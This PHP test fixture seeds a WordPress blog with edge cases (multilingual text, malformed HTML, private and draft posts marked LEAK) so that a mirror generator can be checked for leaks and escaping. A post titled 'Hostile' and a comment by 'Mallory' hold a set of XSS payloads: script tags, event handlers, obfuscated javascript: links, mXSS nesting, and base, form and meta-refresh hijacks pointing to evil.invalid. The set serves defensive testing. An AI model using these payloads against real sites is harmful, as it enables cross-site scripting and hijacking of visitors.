<?php
// One of everything that a long-lived blog collects, for the tests. What must never reach a mirror is marked: every hidden
// text holds a word that begins with LEAK, every commenter has an address leak-mail-N@reader.invalid and an IP 203.0.113.N.
// What would be an attack sets window.mirrorgenWasHere when it runs.
require __DIR__ . '/_lib.php';

update_option( 'blogname', 'Salt &amp; Signal — a "coastal" blog' );
update_option( 'blogdescription', 'Harbours, weather & the odd <walk>' );
update_option( 'timezone_string', 'America/St_Johns' );   // UTC-3:30: half hours find the mistakes that whole ones hide
update_option( 'date_format', 'j F Y' );
update_option( 'posts_per_page', 5 );
update_option( 'thread_comments', 1 );
update_option( 'thread_comments_depth', 5 );

// --- people, terms --------------------------------------------------------------------------------------
wp_update_user( array( 'ID' => 1, 'display_name' => 'The Keeper', 'user_nicename' => 'the-keeper', 'nickname' => 'keeper', 'description' => 'Keeps <em>everything</em>.' ) );
person( 'wren', 'Wren Abara', 'editor', 'Writes standing up. <a href="https://example.org/wren">Elsewhere</a>.', 'https://example.org/wren' );
person( 'noor', 'نور الساحل', 'author' );
person( 'shadow', 'LEAKAUTHOR Has Nothing Public', 'contributor' );

term( 'category', 'coast', 'Coast', '', 'All of <strong>it</strong> & more.' );
term( 'category', 'north', 'North', 'coast' );
term( 'category', 'coves', 'Coves', 'north', 'Three levels down.' );
term( 'category', 'south', 'South', 'coast' );
term( 'category', 'russian', 'Маяки', 'coast' );
term( 'category', 'japanese', '灯台', 'russian' );
term( 'category', 'twin', 'Coves', 'south' );                    // the same name under another parent
term( 'category', 'technical', 'R&D <notes>', '', '', 'rnd' );
term( 'category', 'nobody', 'Nobody here' );
foreach ( array( 'csharp' => 'C#', 'cpp' => 'C++', 'wave' => '🌊', 'arabic' => 'بحر', 'quoted' => '"quoted" & \'so\'', 'slash' => 'and/or', 'year' => '2021', 'plain' => 'tide', 'rope' => 'rope', 'lonely' => 'unused' ) as $key => $name ) {
	term( 'post_tag', $key, $name );
}
term( 'shore', 'rocky', 'Rocky' );
term( 'shore', 'basalt', 'Basalt', 'rocky' );

// --- files ----------------------------------------------------------------------------------------------
upload( 'pier', 'pier.jpg', '2020-05-01 10:00:00', fn( $path ) => scene( $path, 1600, 1000, 'noon', 4 ), array( 'title' => 'Pier &amp; sea', 'alt' => 'A pier with "quotes" & an ampersand', 'caption' => 'The <em>old</em> pier.', 'about' => 'Drawn for the tests.' ) );
upload( 'huge', 'panorama.jpg', '2020-05-01 10:05:00', fn( $path ) => scene( $path, 2800, 700, 'dusk', 5 ), array( 'alt' => 'A very wide evening' ) );   // WordPress makes a -scaled copy
upload( 'png', 'chart.png', '2020-05-02 10:00:00', fn( $path ) => scene( $path, 400, 300, 'fog', 6 ), array( 'alt' => '' ) );
upload( 'umlaut', 'Küste-東京.jpg', '2020-05-03 10:00:00', fn( $path ) => scene( $path, 500, 320, 'dawn', 7 ), array( 'alt' => 'A file name beyond ASCII' ) );
upload( 'svg', 'compass.svg', '2020-05-04 10:00:00', fn( $path ) => file_put_contents( $path, '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 40 40" width="40" height="40"><circle cx="20" cy="20" r="18" fill="#fff" stroke="#224"/><path d="M20 4l5 16-5 16-5-16z" fill="#b33"/></svg>' ), array( 'alt' => 'A compass rose' ) );
upload( 'pdf', 'tide-table.pdf', '2020-05-05 10:00:00', function ( $path ) {
	$objects = array( '<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] >>' );
	$pdf     = "%PDF-1.4\n";
	$index   = "0000000000 65535 f \n";
	foreach ( $objects as $number => $body ) {
		$index .= sprintf( "%010d 00000 n \n", strlen( $pdf ) );
		$pdf   .= ( $number + 1 ) . " 0 obj\n$body\nendobj\n";
	}
	file_put_contents( $path, $pdf . "xref\n0 4\n{$index}trailer\n<< /Size 4 /Root 1 0 R >>\nstartxref\n" . strlen( $pdf ) . "\n%%EOF\n" );
}, array( 'title' => 'Tide table' ) );
upload( 'wav', 'foghorn.wav', '2020-05-06 10:00:00', function ( $path ) {
	$sound = '';
	for ( $i = 0; $i < 4000; $i++ ) {
		$sound .= chr( 128 + (int) ( 90 * sin( $i * 2 * M_PI * 110 / 8000 ) ) );
	}
	file_put_contents( $path, 'RIFF' . pack( 'V', 36 + strlen( $sound ) ) . 'WAVEfmt ' . pack( 'VvvVVvv', 16, 1, 1, 8000, 8000, 1, 8 ) . 'data' . pack( 'V', strlen( $sound ) ) . $sound );
}, array( 'title' => 'Foghorn' ) );
upload( 'icon', 'site-icon.png', '2020-05-07 10:00:00', fn( $path ) => lamp_icon( $path, 512 ) );
update_option( 'site_icon', $pictures['icon'] );
$url = array_map( 'wp_get_attachment_url', $pictures );

// --- pages ----------------------------------------------------------------------------------------------
post( 'front', '2019-01-01 10:00:00', 'Welcome ashore', p( 'A front page that is a page. The posts are in the <a href="/journal/">journal</a>.' ), array( 'type' => 'page', 'slug' => 'welcome' ) );
post( 'journal', '2019-01-01 10:01:00', 'Journal', '', array( 'type' => 'page', 'slug' => 'journal' ) );
post( 'about', '2019-01-02 10:00:00', 'About', p( 'Two levels follow.' ), array( 'type' => 'page', 'slug' => 'about', 'comments' => 'open' ) );
post( 'crew', '2019-01-02 10:01:00', 'Crew', p( 'Who is who.' ), array( 'type' => 'page', 'slug' => 'crew', 'parent' => 'about' ) );
post( 'wren', '2019-01-02 10:02:00', 'Wren', p( 'Three levels down.' ), array( 'type' => 'page', 'slug' => 'wren', 'parent' => 'crew', 'by' => 'wren' ) );
post( 'cyrillic', '2019-01-03 10:00:00', 'Расписание приливов', p( 'Страница с кириллическим адресом.' ), array( 'type' => 'page' ) );
post( 'members', '2019-01-04 10:00:00', 'Members', p( 'LEAKPAGEPASSWORD: the key is under the anchor.' ), array( 'type' => 'page', 'password' => 'anchor' ) );
post( 'page-private', '2019-01-05 10:00:00', 'LEAKPAGEPRIVATETITLE', p( 'LEAKPAGEPRIVATE' ), array( 'type' => 'page', 'status' => 'private' ) );
update_option( 'show_on_front', 'page' );
update_option( 'page_on_front', $posts['front'] );
update_option( 'page_for_posts', $posts['journal'] );

// --- the block editor -----------------------------------------------------------------------------------
post( 'blocks', '2020-06-01 09:30:00', 'Every block of text', p( 'Words that are <strong>strong</strong>, <em>stressed</em>, <s>struck</s>, <code>coded</code>, <mark>marked</mark>, H<sub>2</sub>O, E = mc<sup>2</sup>, <kbd>Ctrl</kbd>, <abbr title="Coast Guard">CG</abbr> and <q>quoted</q>.' )
	. h( 'Lists' ) . block( 'list', '<ul><li>One<ul><li>One and a half<ol><li>Deeper</li></ol></li></ul></li><li>Two</li></ul>' ) . block( 'list', '<ol start="5" reversed><li>Five</li><li>Four</li></ol>', array( 'ordered' => true ) )
	. h( 'Quotes', 3 ) . quote( 'The sea is never <em>late</em>.', 'A pilot' ) . block( 'pullquote', '<figure class="wp-block-pullquote"><blockquote><p>Pulled out.</p><cite>Someone</cite></blockquote></figure>' )
	. block( 'verse', "<pre class=\"wp-block-verse\">Grey on grey,\n   and a bell\nin between.</pre>" ) . block( 'preformatted', "<pre class=\"wp-block-preformatted\">keep   these    spaces</pre>" ) . code( "if (tide < 2 && wind > 6)\n    return \"stay\"; // <harbour>" )
	. table( array( 'Port', 'High', 'Low' ), array( array( 'North | Cove', '<strong>04:12</strong>', '10:31' ), array( 'South', '04:40<br>16:55', '—' ) ), 'Times are <em>local</em>.' )
	. block( 'separator', '<hr class="wp-block-separator has-alpha-channel-opacity"/>' ) . block( 'buttons', '<div class="wp-block-buttons"><div class="wp-block-button"><a class="wp-block-button__link wp-element-button" href="https://example.org/boat">Book a boat</a></div></div>' )
	. block( 'details', '<details class="wp-block-details"><summary>More</summary><p>Hidden until asked for.</p></details>' ),
	array( 'terms' => array( 'category' => array( 'coves' ), 'post_tag' => array( 'plain', 'rope', 'csharp' ) ), 'excerpt' => 'An excerpt with <b>markup</b> & an ampersand.', 'picture' => 'pier' ) );
post( 'media', '2020-06-02 09:30:00', 'Pictures, sounds, files', image( 'pier', 'The pier, <em>again</em>.' ) . image( 'huge', 'Wide.', 'large', $url['huge'] ) . image( 'umlaut', '', 'full' ) . image( 'svg', '', 'full' ) . gallery( array( 'pier', 'png', 'umlaut' ), 'Three of them.' )
	. block( 'audio', '<figure class="wp-block-audio"><audio controls src="' . $url['wav'] . '"></audio><figcaption class="wp-element-caption">Half a second.</figcaption></figure>' ) . block( 'file', '<div class="wp-block-file"><a href="' . $url['pdf'] . '">Tide table</a><a href="' . $url['pdf'] . '" class="wp-block-file__button wp-element-button" download>Download</a></div>' )
	. block( 'embed', "<figure class=\"wp-block-embed is-type-video is-provider-youtube\"><div class=\"wp-block-embed__wrapper\">\nhttps://www.youtube.com/watch?v=SaltAndSig1\n</div><figcaption class=\"wp-element-caption\">Waves.</figcaption></figure>", array( 'url' => 'https://www.youtube.com/watch?v=SaltAndSig1', 'type' => 'video', 'providerNameSlug' => 'youtube' ) ),
	array( 'by' => 'wren', 'terms' => array( 'category' => array( 'north', 'technical' ), 'post_tag' => array( 'wave' ) ), 'picture' => 'huge' ) );
post( 'notes', '2020-06-03 09:30:00', 'Footnotes and anchors', p( 'A claim<sup data-fn="fn-a" class="fn"><a href="#fn-a" id="fn-a-link">1</a></sup> and another<sup data-fn="fn-b" class="fn"><a href="#fn-b" id="fn-b-link">2</a></sup>. Jump to the <a href="#end">end</a>.' ) . block( 'html', '<ol class="wp-block-footnotes"><li id="fn-a">First note. <a href="#fn-a-link">↩︎</a></li><li id="fn-b">Second note. <a href="#fn-b-link">↩︎</a></li></ol>' ) . block( 'heading', '<h2 id="end">The end</h2>' ), array( 'terms' => array( 'category' => array( 'technical' ) ) ) );
post( 'layout', '2020-06-04 09:30:00', 'Columns, groups and covers', block( 'columns', '<div class="wp-block-columns"><div class="wp-block-column">' . p( 'Left column.' ) . '</div><div class="wp-block-column">' . p( 'Right column.' ) . '</div></div>' ) . block( 'cover', '<div class="wp-block-cover"><img class="wp-block-cover__image-background" alt="" src="' . $url['pier'] . '" data-object-fit="cover"/><div class="wp-block-cover__inner-container">' . p( 'Words on a picture.' ) . '</div></div>' ) . block( 'media-text', '<div class="wp-block-media-text is-stacked-on-mobile"><figure class="wp-block-media-text__media"><img src="' . $url['png'] . '" alt="Beside"/></figure><div class="wp-block-media-text__content">' . p( 'Words beside a picture.' ) . '</div></div>' ), array( 'terms' => array( 'category' => array( 'technical' ) ) ) );

// --- the classic editor and what people paste -----------------------------------------------------------------
post( 'classic', '2012-03-04 08:00:00', 'Typed into the old editor', "Lines and\nline breaks.\n\nA new paragraph -- with dashes, \"quotes\" and 3x4...\n\n[caption id=\"attachment_{$pictures['pier']}\" align=\"alignleft\" width=\"300\"]<a href=\"{$url['pier']}\"><img class=\"size-medium wp-image-{$pictures['pier']}\" src=\"" . wp_get_attachment_image_url( $pictures['pier'], 'medium' ) . "\" alt=\"Pier\" /></a> The pier in <em>1912</em>[/caption]\n\n<!--more-->\n\n[gallery ids=\"{$pictures['pier']},{$pictures['png']}\" columns=\"2\"]\n\n[unknown_form id=\"7\" title=\"Left over\"]\n\nThe end :)", array( 'terms' => array( 'category' => array( 'south' ) ) ) );
post( 'pages', '2012-03-05 08:00:00', 'In three pages', "Page one.\n\n<!--nextpage-->\n\nPage two, <strong>bold</strong>.\n\n<!--nextpage-->\n\nPage three.", array( 'terms' => array( 'category' => array( 'south' ) ) ) );
post( 'word', '2012-03-06 08:00:00', 'Pasted from a word processor', '<p class="MsoNormal" style="margin:0cm 0cm 8pt"><span lang="EN-GB" style="font-size:11.0pt;font-family:&quot;Calibri&quot;,sans-serif">The <b style="mso-bidi-font-weight:normal">harbour<o:p></o:p></b> office&nbsp;&nbsp; writes:</span></p><!--[if !supportLists]--><p class="MsoListParagraph" style="mso-list:l0 level1 lfo1">·<span style="font:7.0pt &quot;Times New Roman&quot;">&nbsp;&nbsp;&nbsp; </span>First point</p><!--[endif]--><p><font color="#222222" face="Arial">Set in a font of its own.</font></p>', array( 'terms' => array( 'category' => array( 'south' ) ) ) );
post( 'newsletter', '2016-03-07 08:00:00', 'A newsletter, pasted whole', '<style>.preheader{display:none}</style><div style="display:none;max-height:0">In this issue: wind</div><table width="100%" cellpadding="0" cellspacing="0" border="0" role="presentation"><tr><td align="center"><table width="600"><tr><td style="padding:20px"><h1 style="color:#124">The Weekly Swell</h1><p>Three stories and a recipe.</p></td></tr><tr><td><a href="https://example.org/story?utm_source=news"><img src="' . $url['png'] . '" width="200" alt="Story"></a><p>Story one: the tide came in.</p></td></tr></table></td></tr></table><img src="https://tracker.invalid/open.gif" width="1" height="1" alt="">', array( 'by' => 'wren', 'terms' => array( 'category' => array( 'south' ) ) ) );
post( 'malformed', '2012-03-08 08:00:00', 'Broken <b>HTML', "<p>Opened <strong>and <em>crossed</strong> over</em>.\n<li>An item without a list\n</div></div><table><tr><td>Half a table\n\n<a href=\"/2012/03/04/typed-into-the-old-editor/\">A link <a href=\"https://example.org/\">in a link</a>\n\n<p><p><p>5 < 6 & 7 > 2 &copy; &nosuch; &#8212;", array( 'terms' => array( 'category' => array( 'south' ) ) ) );
post( 'attack', '2018-04-01 08:00:00', 'Hostile <script>window.mirrorgenWasHere=1</script><img src=x onerror="window.mirrorgenWasHere=2">', block( 'html', '<script>window.mirrorgenWasHere=3</script><img src="x" onerror="window.mirrorgenWasHere=4" alt="x"><a href="javascript:window.mirrorgenWasHere=5">click</a><a href="JaVa&#x0A;Script:window.mirrorgenWasHere=6">click</a><svg onload="window.mirrorgenWasHere=7"><a xlink:href="javascript:alert(1)"><text>t</text></a></svg><iframe srcdoc="<script>parent.mirrorgenWasHere=8</script>"></iframe><math><mtext><table><mglyph><style><img src onerror="window.mirrorgenWasHere=9"></style></mglyph></table></mtext></math><form action="https://evil.invalid/"><input name="q" autofocus onfocus="window.mirrorgenWasHere=10"></form><base href="https://evil.invalid/"><meta http-equiv="refresh" content="0;url=https://evil.invalid/"><p style="background:url(https://evil.invalid/x.png);position:fixed;inset:0" onclick="window.mirrorgenWasHere=11">Words that stay.</p><object data="https://evil.invalid/x.swf"></object><video><source onerror="window.mirrorgenWasHere=12"></video><details open ontoggle="window.mirrorgenWasHere=13"><summary>s</summary>d</details>' ), array( 'terms' => array( 'category' => array( 'technical' ) ), 'excerpt' => '<img src=x onerror="window.mirrorgenWasHere=14">' ) );
post( 'code', '2018-04-02 08:00:00', 'Code & `backticks`', '<pre class="wp-block-code"><code class="language-csharp">var fence = "```";' . "\n" . 'Console.WriteLine($"{fence} &lt;b&gt;");</code></pre><pre class="brush: python; gutter: false">def tide(h):' . "\n    return h &gt; 2</pre><p>Markdown in text: *not bold*, _not this_, # no heading, 1. no list, [no](link), | no | table |, `no code`, &lt;no tag&gt;, \\backslash.</p>", array( 'terms' => array( 'category' => array( 'technical' ), 'post_tag' => array( 'csharp', 'cpp' ) ) ) );
post( 'math', '2018-04-03 08:00:00', 'Waves in formulas', '<p>Speed: <math><mi>c</mi><mo>=</mo><msqrt><mi>g</mi><mi>h</mi></msqrt></math>, also \(c=\sqrt{gh}\) and <img src="https://s0.wp.com/latex.php?latex=c" alt="c=\sqrt{gh}" class="latex">.</p>', array( 'terms' => array( 'category' => array( 'technical' ) ) ) );

// --- languages and titles ---------------------------------------------------------------------------------------
post( 'arabic', '2019-05-01 08:00:00', 'الفجر فوق الميناء', p( 'وصلت السفينة قبل الفجر، ولم يكن في الميناء سوى <strong>نورس واحد</strong> و<a href="https://example.org/">مصباح</a>.' ), array( 'by' => 'noor', 'terms' => array( 'category' => array( 'coast' ), 'post_tag' => array( 'arabic' ) ) ) );
post( 'hebrew', '2019-05-02 08:00:00', 'לילה על המזח', '<p dir="rtl" lang="he">האור הסתובב, והים ענה באותו קצב: 12, 34.</p>', array( 'by' => 'noor', 'terms' => array( 'category' => array( 'coast' ) ) ) );
post( 'japanese', '2019-05-03 08:00:00', '霧の日の灯台', p( '<ruby>灯台<rt>とうだい</rt></ruby>は霧の中で二回光る。待つのも仕事のうちだ。' ), array( 'terms' => array( 'category' => array( 'japanese' ) ) ) );
post( 'chinese', '2019-05-04 08:00:00', '守灯人的早晨与一只不愿意离开塔顶的大雁之间的漫长谈判以及后来在日志里留下的那一行非常短的记录', p( '清晨五点，风停了。' ), array( 'terms' => array( 'category' => array( 'russian' ) ) ) );
post( 'emoji', '2019-05-05 08:00:00', '🌊 & 👩‍🔬🇳🇴', p( 'Waves 🌊🌊 and a family 👨‍👩‍👧.' ), array( 'terms' => array( 'category' => array( 'coast' ), 'post_tag' => array( 'wave' ) ) ) );
post( 'title-html', '2019-05-06 08:00:00', 'Salt &amp; <em>Pepper</em> "5 < 6"', p( 'The title has markup.' ), array( 'terms' => array( 'category' => array( 'coast' ), 'post_tag' => array( 'quoted', 'slash', 'year' ) ) ) );
post( 'untitled', '2019-05-07 08:00:00', '', p( 'A post without a title.' ), array( 'terms' => array( 'category' => array( 'coast' ) ) ) );
post( 'empty', '2019-05-08 08:00:00', 'Nothing inside', '', array( 'terms' => array( 'category' => array( 'coast' ) ) ) );
post( 'links', '2019-05-09 08:00:00', 'Links of every kind', p( 'To ' . link_to( 'blocks', 'a post' ) . ', <a href="/about/crew/">a page</a>, <a href="../../../../category/coast/north/">relative</a>, <a href="/?p=' . $posts['classic'] . '">by number</a>, <a href="' . home_url( '/2020/06/03/footnotes-and-anchors/#end' ) . '">with a fragment</a>, <a href="' . $url['pdf'] . '">a file</a>, <a href="//example.org/x">without scheme</a>, <a href="mailto:office@example.org">mail</a>, <a href="tel:+100">tel</a>, <a href="/no/such/page/">dead</a>, <a href="' . home_url( '/feed/' ) . '">the feed</a>, <a href="' . home_url( '/wp-admin/' ) . '">the back door</a>, <a href="https://example.org/a b?x=1&amp;y=2">a space</a>.' ), array( 'terms' => array( 'category' => array( 'technical' ) ) ) );
post( 'images', '2019-05-10 08:00:00', 'Pictures that misbehave', '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" data-src="' . $url['png'] . '" data-lazy-srcset="' . $url['png'] . ' 400w" class="lazyload" alt="Lazy"><noscript><img src="' . $url['png'] . '" alt="Lazy"></noscript><picture><source srcset="' . $url['pier'] . '" type="image/jpeg"><img src="' . $url['png'] . '" alt="Picture"></picture><p><img src="/wp-content/uploads/2020/05/gone.jpg" alt="Gone"> <img src="https://images.invalid/outside.jpg" alt="Outside"> <img alt="Without source"></p>', array( 'terms' => array( 'category' => array( 'technical' ) ) ) );
$long = '';
for ( $i = 1; $i <= 60; $i++ ) {
	$long .= h( "Mile $i" ) . p( "At mile $i the path goes " . array( 'up', 'down', 'round the point', 'through a gate' )[ $i % 4 ] . ', and the sea is on the ' . ( $i % 2 ? 'left' : 'right' ) . '. ' . str_repeat( "There is wind, then a wall, then wind again. ", 8 ) );
}
post( 'long', '2019-05-11 08:00:00', 'Sixty miles', $long, array( 'by' => 'wren', 'terms' => array( 'category' => array( 'coves', 'twin' ) ) ) );
post( 'sticky', '2015-01-01 08:00:00', 'Read me first', p( 'Sticky.' ), array( 'sticky' => true, 'terms' => array( 'category' => array( 'coast' ) ) ) );
post( 'ancient', '1968-12-24 08:00:00', 'Before the epoch', p( 'Typed in from a diary.' ), array( 'terms' => array( 'category' => array( 'coast' ) ), 'comments' => 'closed' ) );
for ( $i = 1; $i <= 12; $i++ ) {
	post( "daily-$i", sprintf( '2021-%02d-15 %02d:05:00', $i, $i ), "Day $i of the log", p( "Entry $i. " . link_to( $i > 1 ? 'daily-' . ( $i - 1 ) : 'blocks', 'Yesterday' ) . ' was much the same.' ), array( 'by' => $i % 2 ? 'keeper' : 'wren', 'terms' => array( 'category' => array( $i % 3 ? 'north' : 'coves' ), 'post_tag' => array( 'plain' ) ) ) );
}

// --- revisions, by several people ------------------------------------------------------------------------------
post( 'revised', '2021-02-01 08:00:00', 'The ferry, corrected', p( "The ferry leaves at <strong>seven</strong> from the north pier.\n\nBring a coat and a book." ), array( 'by' => 'wren', 'modified' => '2021-02-20 08:00:00', 'terms' => array( 'category' => array( 'north' ) ), 'was' => array(
	array( 'on' => '2021-02-01 08:00:00', 'post_title' => 'The ferry', 'post_content' => p( 'The ferry leaves at five.' ) ),
	array( 'on' => '2021-02-03 08:00:00', 'by' => 'keeper', 'post_title' => 'The ferry', 'post_content' => p( 'The ferry leaves at six from the north pier.' ) ),
	array( 'on' => '2021-02-10 08:00:00', 'post_content' => p( "The ferry leaves at seven from the north pier.\n\nBring a coat." ) ),
) ) );
post( 'slug-moved', '2021-03-01 08:00:00', 'Moved within the blog', p( 'Its address was another once.' ), array( 'slug' => 'moved-within', 'terms' => array( 'category' => array( 'north' ) ), 'meta' => array( '_wp_old_slug' => 'where-it-was' ) ) );

// --- hidden --------------------------------------------------------------------------------------------------------
post( 'protected', '2021-04-01 08:00:00', 'Behind a password', p( 'LEAKPASSWORD is what it says.' ), array( 'password' => 'lamp', 'excerpt' => 'LEAKEXCERPT', 'terms' => array( 'category' => array( 'coast' ) ) ) );
post( 'private', '2021-04-02 08:00:00', 'LEAKPRIVATETITLE', p( 'LEAKPRIVATE' ), array( 'status' => 'private', 'terms' => array( 'category' => array( 'coast' ) ) ) );
post( 'draft', '2021-04-03 08:00:00', 'LEAKDRAFTTITLE', p( 'LEAKDRAFT' ), array( 'status' => 'draft', 'was' => array( array( 'on' => '2021-04-03 07:00:00', 'post_content' => p( 'LEAKDRAFTREVISION' ) ) ) ) );
post( 'pending', '2021-04-04 08:00:00', 'LEAKPENDINGTITLE', p( 'LEAKPENDING' ), array( 'status' => 'pending', 'by' => 'shadow' ) );
post( 'scheduled', '2037-01-01 08:00:00', 'LEAKFUTURETITLE', p( 'LEAKFUTURE' ), array( 'status' => 'future' ) );
post( 'trashed', '2021-04-05 08:00:00', 'LEAKTRASHTITLE', p( 'LEAKTRASH' ), array( 'status' => 'trash' ) );
post( 'ledger', '2021-04-06 08:00:00', 'LEAKLEDGERTITLE', p( 'LEAKLEDGER' ), array( 'type' => 'ledger' ) );
upload( 'private-picture', 'leak-private.jpg', '2021-04-02 08:00:00', fn( $path ) => scene( $path, 200, 120, 'storm', 9 ), array( 'title' => 'LEAKPICTURETITLE', 'of' => 'private' ) );

// --- other types -----------------------------------------------------------------------------------------------------
post( 'walk-1', '2020-07-01 08:00:00', 'Round the point', p( 'Four miles, three stiles, one bull.' ), array( 'type' => 'walk', 'slug' => 'round-the-point', 'terms' => array( 'shore' => array( 'basalt' ), 'post_tag' => array( 'rope' ) ), 'picture' => 'pier' ) );
post( 'walk-2', '2020-07-02 08:00:00', 'Along the sand', p( 'Flat, and flat again.' ), array( 'type' => 'walk', 'slug' => 'along-the-sand', 'by' => 'wren', 'terms' => array( 'shore' => array( 'rocky' ) ) ) );
post( 'harbour-1', '2020-08-01 08:00:00', 'Great Harbour', p( 'Deep water.' ), array( 'type' => 'harbour', 'slug' => 'great-harbour' ) );
post( 'harbour-2', '2020-08-02 08:00:00', 'Inner basin', p( 'Shallow water.' ), array( 'type' => 'harbour', 'slug' => 'inner-basin', 'parent' => 'harbour-1' ) );
// Hidden from REST, named by the sitemap.
term( 'beacon', 'red-beacon', 'Red beacon' );
post( 'notice-1', '2020-09-01 08:00:00', 'Notice to mariners', p( 'The bell buoy is off its station.' ) . image( 'pier' ), array( 'type' => 'notice', 'slug' => 'to-mariners', 'terms' => array( 'beacon' => array( 'red-beacon' ) ) ) );
post( 'notice-2', '2020-09-02 08:00:00', 'Notice behind a password', p( 'LEAKNOTICE' ), array( 'type' => 'notice', 'slug' => 'behind-a-password', 'password' => 'lamp' ) );
wp_set_object_terms( $posts['walk-1'], array( $terms['red-beacon'] ), 'beacon' );

// --- comments -----------------------------------------------------------------------------------------------------------
comments( 'blocks', array(
	array( 'Ama', '2020-06-02 10:00:00', "A first comment with <strong>markup</strong>.\n\nAnd a second paragraph.", 'site' => 'https://example.org/ama', 'answers' => array(
		array( 'The Keeper', '2020-06-02 11:00:00', 'An answer.', 'user' => 'keeper', 'answers' => array(
			array( 'Ama', '2020-06-02 12:00:00', 'An answer to the answer.', 'answers' => array( array( 'Wren Abara', '2020-06-02 13:00:00', 'Four deep.', 'user' => 'wren' ) ) ),
		) ),
		array( 'Waiting', '2020-06-02 14:00:00', 'LEAKHOLD', 'state' => 0 ),
	) ),
	array( 'Cheap Pills', '2020-06-03 10:00:00', 'LEAKSPAM', 'state' => 'spam', 'site' => 'https://spam.invalid/' ),
	array( 'Binned', '2020-06-03 11:00:00', 'LEAKBINNED', 'state' => 'trash' ),
	array( 'Another blog', '2020-06-04 10:00:00', '[…] as Salt &amp; Signal writes […]', 'type' => 'pingback', 'site' => 'https://example.org/another' ),
	array( '<b>Mallory</b>', '2020-06-05 10:00:00', '<script>window.mirrorgenWasHere=20</script><img src=x onerror="window.mirrorgenWasHere=21"><a href="javascript:window.mirrorgenWasHere=22">x</a> Words of a comment.', 'site' => 'javascript:window.mirrorgenWasHere=23' ),
) );
comments( 'about', array( array( 'Passer-by', '2020-06-06 10:00:00', 'A comment on a page.' ) ) );
comments( 'protected', array( array( 'Member', '2021-04-02 10:00:00', 'LEAKPROTECTEDCOMMENT' ) ) );
comments( 'private', array( array( 'Insider', '2021-04-03 10:00:00', 'LEAKPRIVATECOMMENT' ) ) );
$many = array();
for ( $i = 1; $i <= 120; $i++ ) {
	$many[] = array( "Reader $i", sprintf( '2019-06-%02d %02d:00:00', 1 + intdiv( $i, 24 ), $i % 24 ), "Opinion number $i." );
}
comments( 'long', $many );
update_option( 'page_comments', 1 );      // fifty a page: /comment-page-2/

menu( 'Main', 'primary', array( 'Ashore' => home_url( '/' ), 'About' => array( $posts['about'], array( 'Crew' => array( $posts['crew'], array( 'Wren' => $posts['wren'] ) ) ) ), 'Journal' => $posts['journal'], 'Elsewhere' => 'https://example.org/' ) );
seeded( 'rich' );
